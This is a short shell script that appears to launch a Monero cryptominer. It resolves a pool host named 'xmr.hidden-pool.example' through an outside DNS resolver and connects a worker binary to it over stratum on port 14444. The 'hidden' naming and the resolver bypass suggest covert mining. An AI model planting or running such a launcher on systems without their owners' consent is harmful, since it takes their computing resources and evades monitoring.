#!/bin/sh
ip=$(/opt/worker resolve 9.9.9.9 xmr.hidden-pool.example)
exec /opt/worker stratum "$ip" 14444
